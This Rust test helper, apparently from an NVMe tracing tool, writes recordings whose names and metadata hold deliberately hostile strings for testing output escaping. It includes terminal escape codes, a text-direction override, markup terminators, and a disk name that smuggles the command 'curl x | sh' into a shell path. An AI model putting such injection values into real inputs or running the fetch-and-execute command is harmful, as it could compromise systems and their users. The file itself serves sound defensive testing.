// SPDX-License-Identifier: MIT OR Apache-2.0
//! Recordings whose names were written by someone who wants to write more than a name.

use std::fs::File;
use std::path::Path;

use nvme_deep::model::controller::{ControllerInfo, DiskInfo};
use nvme_deep::model::event::{Event, EventKind, StackId};
use nvme_deep::model::ledger::{HookLine, HostLedger, Ledger, MissingHook, PointMethod};
use nvme_deep::model::machine::{
    IoCost, IoLimit, IoLimits, MachineController, MachineDisk, MachineInfo,
};
use nvme_deep::model::point::Point;
use nvme_deep::model::stack::StackAt;
use nvme_deep::model::stage::StageSet;
use nvme_deep::model::timeline::Timeline;
use nvme_deep::recording::{
    ClockOffset, Content, FrameInfo, HostRecording, LedgerInfo, Recorder, RunInfo, StackInfo,
};

use crate::testing::recording::{SECOND, read_at};

/// Clears a screen, sets a title, writes a line and a path of its own, ends XML and JSON, turns the
/// direction of text.
pub const EVIL: &str = "=x\naccuracy  exact: 7 commands, 0 lost\x1b[2J\x1b]0;t\x07\u{9b}2J\r\t;y 9\u{202e}\u{2028}<&\"\\}]]>,";
/// A name of a disk that ends a path of a shell.
pub const SHELL: &str = "nvme0n1; curl x | sh #";

const READS: u64 = 200;

/// A read that waits 5 ms before it is built.
fn read(n: u64) -> Event {
    let mut event = read_at(2 * SECOND + n * 10_000_000);
    if let EventKind::Command(_, asked, outcome) = &mut event.what {
        asked.comm = *b"=a\nb\x1b[2J,\xff\"\\;\0\0\0";
        asked.stack = StackId(1);
        let line = outcome.timeline.unwrap();
        let pattern = line.pattern() | Point::SetupIn.pattern_bit().unwrap();
        outcome.timeline = Some(Timeline::from_fn(pattern, |point| match point {
            Point::Start => line.ns(point) - 5_000_000,
            Point::SetupIn => line.ns(Point::SetupOut) - 500,
            _ => line.ns(point),
        }));
    }
    event
}

fn frame(name: &str) -> FrameInfo {
    FrameInfo { name: Some(name.into()), offset: 16, module: Some(name.into()) }
}

fn ledger() -> LedgerInfo {
    let evil = || EVIL.into();
    let ledger = Ledger {
        seen: READS,
        matched: READS,
        misses_known: true,
        hooks: vec![HookLine {
            point: Some(evil()),
            kind: evil(),
            target: evil(),
            may_stay_silent: Some(evil()),
            ..HookLine::default()
        }],
        methods: vec![PointMethod { point: evil(), method: None }],
        missing_hooks: vec![MissingHook {
            point: evil(),
            method: evil(),
            hook: evil(),
            why: evil(),
            tried: false,
            instead: Some(evil()),
        }],
        ..Ledger::default()
    };
    LedgerInfo { at_ns: 3 * SECOND, evicted: 0, ledger: Some(ledger) }
}

fn machine(disk: &str) -> MachineInfo {
    let evil = || Some(EVIL.into());
    let limit = IoLimit { cgroup: EVIL.into(), riops: Some(60), ..IoLimit::default() };
    MachineInfo {
        hypervisor: evil(),
        is_virtual: Some(true),
        cpus: Some(4),
        cgroup_mount: evil(),
        controllers: vec![MachineController {
            class: EVIL.into(),
            transport: Some("pcie".into()),
            depth: Some(1024),
            state: evil(),
            iommu_group: evil(),
            disks: vec![MachineDisk {
                name: disk.into(),
                nsid: 1,
                scheduler: evil(),
                write_cache: evil(),
                limits: Some(IoLimits { cgroups: vec![limit], more: true }),
                io_cost: Some(IoCost { enabled: true, qos: EVIL.into() }),
                zoned: evil(),
                ..MachineDisk::default()
            }],
            ..MachineController::default()
        }],
        ..MachineInfo::default()
    }
}

/// Records commands of a disk of this name.
pub fn guest(path: &Path, disk: &str, filter: &str) {
    let evil = || Some(EVIL.into());
    let info = RunInfo {
        program: EVIL.into(),
        host: evil(),
        kernel: evil(),
        arch: EVIL.into(),
        machine: evil(),
        boot_id: evil(),
        filter: filter.into(),
        begin_ns: SECOND,
        pairs: true,
        sample_period: 1,
        stage_set: StageSet::Basic,
        stack: Some(StackAt::Submit),
        context: true,
        ..RunInfo::default()
    };
    let mut file = Recorder::create(File::create(path).unwrap(), true, None).unwrap();
    file.block(Content::Run, SECOND, &info);
    file.block(Content::Clock, SECOND, &ClockOffset { wall_ns: 0 });
    let controllers = [ControllerInfo {
        model: EVIL.into(),
        transport: EVIL.into(),
        nqn: evil(),
        disks: vec![DiskInfo { name: disk.into(), nsid: 1, lba_bytes: 512, csi: 0 }],
        ..ControllerInfo::default()
    }];
    file.block(Content::Controllers, SECOND, &controllers);
    file.block(Content::Machine, SECOND, &machine(disk));
    let stack = StackInfo { id: 1, frames: vec![frame(EVIL), frame("nvme_queue_rq")] };
    file.block(Content::Stacks, SECOND, &[stack]);
    (0..READS).for_each(|n| file.push(&read(n)));
    file.flush();
    file.block(Content::End, 4 * SECOND, &ledger());
    assert!(file.finish().error.is_none());
}

/// Copies a recording of the host side, with other texts.
pub fn host(from: &Path, to: &Path) {
    let read = HostRecording::read(File::open(from).unwrap()).unwrap();
    let evil = || Some(EVIL.into());
    let mut info = read.info;
    (info.host, info.kernel, info.machine) = (evil(), evil(), evil());
    let target = info.target.as_mut().unwrap();
    target.by = EVIL.into();
    (target.binary, target.version, target.build_id) = (evil(), evil(), evil());
    let mut controllers = read.controllers;
    for controller in &mut controllers {
        controller.name = EVIL.into();
        controller.serial = evil();
    }
    let mut file = Recorder::create(File::create(to).unwrap(), true, None).unwrap();
    file.block(Content::Run, info.begin_ns, &info);
    read.events.iter().for_each(|event| file.push_target(event));
    file.block(Content::Readings, 0, &read.readings);
    file.block(Content::HostControllers, 0, &controllers);
    let ledger = HostLedger { hits: [(EVIL.into(), 8)].into(), lost: 1, ..read.ledger.unwrap() };
    let ledger = LedgerInfo { at_ns: 4 * SECOND, evicted: 0, ledger: Some(ledger) };
    file.block(Content::End, 4 * SECOND, &ledger);
    assert!(file.finish().error.is_none());
}
